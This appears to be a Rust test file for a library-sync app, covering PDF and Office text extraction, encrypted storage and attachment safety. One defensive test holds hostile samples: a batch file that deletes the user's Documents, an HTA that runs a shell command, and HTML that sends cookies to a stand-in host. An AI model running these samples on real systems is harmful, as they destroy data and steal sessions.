//! Attachment text on real files: the starter library's PDFs and decks, and PDFs that are
//! scanned, encrypted or not PDFs at all. None of them stops an import.

use peerlib_feed::network::Network;
use peerlib_store::{paths::DataDir, ExtractedText, SearchQuery, UserMarks};
use peerlib_sync::{extract_text, open_library};

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!("{}/tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

#[test]
fn the_starter_pdfs_and_decks_have_text_in_every_language() {
    let docs = peerlib_feed::starter::documents().unwrap();
    for d in docs.iter().filter(|d| d.group == "c19rm-consultation-guide") {
        for a in &d.attachments {
            let t = extract_text(&a.media_type, &a.bytes);
            let text = t.text().unwrap_or_else(|| panic!("{} {}: {t:?}", d.id, a.title));
            assert!(text.contains("C19RM"), "{} {} has its words: {text:.200}", d.id, a.title);
        }
    }
}

#[test]
fn scanned_encrypted_and_mislabelled_pdfs_get_a_status_not_an_error() {
    assert_eq!(extract_text("application/pdf", &fixture("scanned-no-text.pdf")), ExtractedText::NoTextLayer);
    assert_eq!(extract_text("application/pdf", &fixture("encrypted.pdf")), ExtractedText::Encrypted);
    assert_eq!(extract_text("application/pdf", b"<!doctype html><title>Wi-Fi login</title>"), ExtractedText::NotItsType);
    let mut truncated = peerlib_feed::starter::documents().unwrap().into_iter()
        .flat_map(|d| d.attachments).find(|a| a.media_type == "application/pdf").unwrap().bytes;
    truncated.truncate(truncated.len() / 3);
    let t = extract_text("application/pdf", &truncated);
    assert!(matches!(t, ExtractedText::Unreadable | ExtractedText::Text(_) | ExtractedText::NoTextLayer), "a truncated PDF never panics: {t:?}");
}

/// The words of `t`, or a panic naming what it was.
fn words(t: &ExtractedText) -> String {
    t.text().unwrap_or_else(|| panic!("expected text, got {t:?}")).split_whitespace().collect::<Vec<_>>().join(" ")
}

#[test]
fn a_pdf_with_permissions_only_is_read_and_one_that_needs_a_password_is_named_so() {
    // Permission-only encryption (an empty user password: every reader opens it; copying is
    // "restricted") is common in reports. It was called password-protected and never searched.
    let plain = words(&extract_text("application/pdf", &fixture("three-pages.pdf")));
    for f in ["permission-only-aes256.pdf", "permission-only-rc4.pdf"] {
        let t = extract_text("application/pdf", &fixture(f));
        assert_eq!(words(&t), plain, "{f} reads as the same PDF unencrypted");
    }
    assert_eq!(extract_text("application/pdf", &fixture("user-password-aes256.pdf")), ExtractedText::Encrypted);
    assert_eq!(extract_text("application/pdf", &fixture("encrypted.pdf")), ExtractedText::Encrypted);
}

#[test]
fn one_bad_page_does_not_lose_the_others() {
    let plain = words(&extract_text("application/pdf", &fixture("three-pages.pdf")));
    for phrase in ["Naloxone distribution saves lives", "Снижение вреда спасает жизни", "La réduction des risques protège"] {
        assert!(plain.contains(phrase), "the three pages read: {plain}");
    }
    for f in ["bad-font-on-page-2.pdf", "bad-stream-on-page-2.pdf"] {
        let got = words(&extract_text("application/pdf", &fixture(f)));
        assert!(got.contains("Naloxone distribution saves lives"), "{f}: page 1 kept: {got}");
        assert!(got.contains("La réduction des risques protège"), "{f}: page 3 kept: {got}");
    }
}

#[test]
fn scanned_pages_are_said_only_of_a_pdf_with_no_text() {
    assert_eq!(extract_text("application/pdf", &fixture("scanned-no-text.pdf")), ExtractedText::NoTextLayer);
    // Text is shown, in fonts that say nothing of which characters they draw: the words cannot
    // be read (poppler reads punctuation too), but these are not scanned pages.
    assert_eq!(extract_text("application/pdf", &fixture("fonts-without-unicode.pdf")), ExtractedText::Unreadable);
}

#[test]
fn a_password_protected_office_file_is_called_that() {
    // An encrypted .docx/.pptx is an OLE compound file, not a zip: it is password-protected, not
    // "not the type it claims to be".
    let bytes = fixture("password.docx");
    assert_eq!(extract_text("application/vnd.openxmlformats-officedocument.wordprocessingml.document", &bytes), ExtractedText::Encrypted);
    assert_eq!(extract_text("application/vnd.openxmlformats-officedocument.presentationml.presentation", &bytes), ExtractedText::Encrypted);
    assert_eq!(peerlib_feed::filetype::label(&bytes).as_deref(), Some("OFFICE+PASSWORD"));
    assert_eq!(peerlib_feed::filetype::open_as("application/vnd.openxmlformats-officedocument.wordprocessingml.document", &bytes), None, "its contents cannot be checked: saved, never opened");
    // A legacy Word file is still a legacy Word file.
    assert_ne!(peerlib_feed::filetype::label(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0").as_deref(), Some("OFFICE+PASSWORD"));
}

#[test]
fn a_phrase_from_inside_the_guides_pdf_finds_the_guide() {
    // Journey 3: "he searches a phrase he remembers from inside the guide's PDF".
    crate::common::extraction_child();
    let tmp = tempfile::tempdir().unwrap();
    let (store, _) = open_library(&DataDir::new(tmp.path()), &Network::shipped().unwrap()).unwrap();
    let q = SearchQuery { text: "\"30% for communities\"".into(), ..Default::default() };
    let r = store.search(&q, &UserMarks::default()).unwrap();
    let ids: Vec<&str> = r.hits.iter().map(|h| h.id.as_str()).collect();
    assert_eq!(ids, ["c19rm-guide-en"], "only the English guide's attachments say this: {ids:?}");
    assert_eq!(r.hits[0].snippet_source, peerlib_store::SnippetSource::Attachment);
    assert_eq!(store.file_text_status(&store.document("c19rm-guide-ru").unwrap().attachments[0].sha256).unwrap().as_deref(), Some("ok"));
}

/// A real (minimal) Word document: the zip layout and XML Word writes.
fn docx(paragraphs: &[&str]) -> Vec<u8> {
    use std::io::Write;
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut buf);
        let opts = zip::write::SimpleFileOptions::default();
        z.start_file("[Content_Types].xml", opts).unwrap();
        z.write_all(br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#).unwrap();
        z.start_file("word/document.xml", opts).unwrap();
        let body: String = paragraphs.iter().map(|p| format!("<w:p><w:r><w:t>{p}</w:t></w:r></w:p>")).collect();
        write!(z, r#"<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>"#).unwrap();
        z.finish().unwrap();
    }
    buf.into_inner()
}

#[test]
fn word_documents_have_their_paragraphs_extracted() {
    const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    let bytes = docx(&["Снижение вреда спасает жизни.", "Harm reduction &amp; peer support."]);
    let t = extract_text(DOCX, &bytes);
    let text = t.text().unwrap_or_else(|| panic!("{t:?}"));
    assert!(text.contains("Снижение вреда спасает жизни."), "{text}");
    assert!(text.contains("Harm reduction & peer support."), "entities are decoded: {text}");
    let truncated = extract_text(DOCX, &bytes[..bytes.len() / 2]);
    assert!(matches!(truncated, ExtractedText::Unreadable | ExtractedText::NotItsType), "a truncated file gets a status, not a panic: {truncated:?}");
}

/// #17 item 5: attachments titled "(PDF)" reached the system opener as `.bat`, `.hta`, `.htm` and
/// `.svg`. Now only an allowlisted document type whose bytes are that type is ever handed out, with
/// the extension of the allowlist; anything else can be saved (as `.bin`), never opened.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_a_document_whose_bytes_are_its_type_is_handed_to_the_system_opener() {
    use crate::common::{options, Publisher, World};
    use peerlib_sync::{openable_attachment, save_extension, AttachmentError};
    let hostile: [(&str, &[u8], Option<&str>); 4] = [
        ("bat", b"@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n", Some("TXT")),
        ("hta", b"<html><head><hta:application id=x/><script>new ActiveXObject('WScript.Shell').Run('calc')</script></head></html>", Some("HTML")),
        ("htm", b"<!DOCTYPE html><html><body><script>fetch('https://tracker.example/'+document.cookie)</script></body></html>", Some("HTML")),
        ("svg", b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", Some("XML")),
    ];
    let p = Publisher::new();
    p.write_doc("real", "Guide", "The guide.", Some(b"%PDF-1.4\n% a real PDF\n"));
    for (id, _, _) in &hostile {
        p.write_doc(id, "Agenda", "The agenda.", Some(format!("%PDF-1.4\n% {id}, replaced below\n").as_bytes()));
    }
    p.publish();
    for (id, bytes, _) in &hostile {
        p.swap_attachment(id, bytes);
    }
    let w = World::serve(p).await;
    let a = w.sync_with(&options(std::time::Duration::from_secs(5))).await.unwrap();
    assert!(a.ok(), "a mislabelled file is kept and marked, not a failed sync: {a:?}");
    let (store, _) = peerlib_store::ContentStore::open_in(&w.dir).unwrap();

    let real = store.document("real").unwrap().attachments.remove(0);
    assert_eq!((real.real_type.as_deref(), real.openable), (Some("PDF"), true));
    let path = openable_attachment(&w.dir, &real).expect("a PDF that is a PDF opens");
    assert_eq!(path.extension().unwrap(), "pdf");
    #[cfg(unix)]
    {
        // What was opened is read state: its folder is its user's alone (#18 item 7).
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(path.parent().unwrap()).unwrap().permissions().mode() & 0o777, 0o700);
    }

    for (id, bytes, label) in hostile {
        let att = store.document(id).unwrap().attachments.remove(0);
        assert_eq!(att.media_type, "application/pdf", "{id}: the feed claims a PDF");
        assert_eq!(att.real_type.as_deref(), label, "{id}: the real type is shown");
        assert!(!att.openable, "{id}: marked save-only");
        assert!(matches!(openable_attachment(&w.dir, &att), Err(AttachmentError::NotOpenable)), "{id} is never handed to the opener");
        assert_eq!(save_extension(&att, bytes), "bin", "{id}: a saved copy is no double-click away from running");
    }
    let opened: Vec<String> = std::fs::read_dir(w.dir.attachments().join("open")).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    assert_eq!(opened, [format!("{}.pdf", real.sha256)], "nothing but the real PDF was made openable");
}




/// An encrypted library (#18 item 1): a sync keeps each attachment sealed as it arrives, its text
/// read before it is sealed and searchable; nothing in the data folder holds its words; a second
/// sync finds it held; and "Open" hands the system a plain copy in the private folder only then.
#[tokio::test]
async fn an_encrypted_librarys_attachments_are_sealed_as_they_arrive_and_opened_as_plain_copies() {
    use crate::common::{options, Publisher, World};
    use peerlib_store::crypt;
    use peerlib_sync::openable_attachment;
    let p = Publisher::new();
    let pdf = crate::sandbox::text_pdf();
    p.write_doc("guide", "Guide", "The guide.", Some(&pdf));
    p.publish();
    let mut w = World::serve(p).await;
    let ring = crypt::encrypt(&w.dir, "a long passphrase").unwrap();
    w.dir = w.dir.with_keyring(ring);
    crypt::encrypt_library(&w.dir, 1).unwrap();
    let a = w.sync_with(&options(std::time::Duration::from_secs(5))).await.unwrap();
    assert!(a.ok(), "{a:?}");
    assert!(crypt::library_encrypted(&w.dir));
    let words = b"naloxone distribution";
    let holding = |root: &std::path::Path| -> Vec<String> {
        let mut out = vec![];
        let mut stack = vec![root.to_path_buf()];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).unwrap().flatten() {
                if e.path().is_dir() {
                    stack.push(e.path());
                } else if std::fs::read(e.path()).unwrap().windows(words.len()).any(|w| w == words) {
                    out.push(e.path().display().to_string());
                }
            }
        }
        out
    };
    assert_eq!(holding(w.dir.root()), Vec::<String>::new(), "the attachment's words in a file of the data folder");
    let (store, _) = peerlib_store::ContentStore::open_in(&w.dir).unwrap();
    let q = SearchQuery { text: "naloxone".into(), ..Default::default() };
    let hits: Vec<String> = store.search(&q, &UserMarks::default()).unwrap().hits.into_iter().map(|h| h.id).collect();
    assert_eq!(hits, ["guide"], "its text was read before it was sealed");
    let att = store.document("guide").unwrap().attachments.remove(0);
    assert!(att.downloaded);
    drop(store);
    // A new document naming the same file: held (sealed), so not fetched again.
    w.p.write_doc("guide-2", "Guide, second edition", "The guide again.", Some(&pdf));
    w.p.publish();
    let again = w.sync_with(&options(std::time::Duration::from_secs(5))).await.unwrap();
    assert!(again.ok() && again.sources.iter().map(|s| s.added).sum::<u64>() == 1, "{again:?}");
    assert!(again.sources.iter().all(|s| s.files == 0), "held sealed, not fetched again: {again:?}");

    let opened = openable_attachment(&w.dir, &att).unwrap();
    assert_eq!(std::fs::read(&opened).unwrap(), pdf, "the program opening it gets the PDF as published");
    assert_eq!(holding(w.dir.root()), [opened.display().to_string()], "the opened copy is the only plain one");
    // Locked, nothing can be read, and no attachment is written plain either.
    assert!(openable_attachment(&w.dir.without_keyring(), &att).is_err());
}

/// In an encrypted library the attachment budget counts what a file takes sealed and padded:
/// two attachments of 5,000 bytes take 5,155 bytes each on disk, so a budget of 10,100 bytes
/// holds one (until 2026-12-07 the budget counted 5,000 for each, and held both).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_budget_counts_what_a_sealed_attachment_takes_on_disk() {
    use crate::common::{options, Publisher, World};
    use peerlib_store::crypt;
    let p = Publisher::new();
    let pdf = |fill: u8| [b"%PDF-1.4\n".as_slice(), &[fill; 4991]].concat();
    p.write_doc("x", "X", "x", Some(&pdf(7)));
    p.write_doc("y", "Y", "y", Some(&pdf(8)));
    p.publish();
    let mut w = World::serve(p).await;
    let ring = crypt::encrypt(&w.dir, "a long passphrase").unwrap();
    w.dir = w.dir.with_keyring(ring);
    crypt::encrypt_library(&w.dir, 1).unwrap();
    let files = w.dir.files().unwrap();
    assert_eq!(files.room_for(5000), 5155);
    let held = files.bytes_held();
    let budget = peerlib_sync::SyncOptions { attachment_budget: Some(held + 10_100), ..options(std::time::Duration::from_secs(5)) };
    let a = w.sync_with(&budget).await.unwrap();
    let (got, over): (u64, u64) = (a.sources.iter().map(|s| s.files).sum(), a.sources.iter().map(|s| s.files_over_budget).sum());
    assert_eq!((got, over), (1, 1), "{a:?}");
    assert!(files.bytes_held() <= held + 10_100, "the budget held on disk");
}
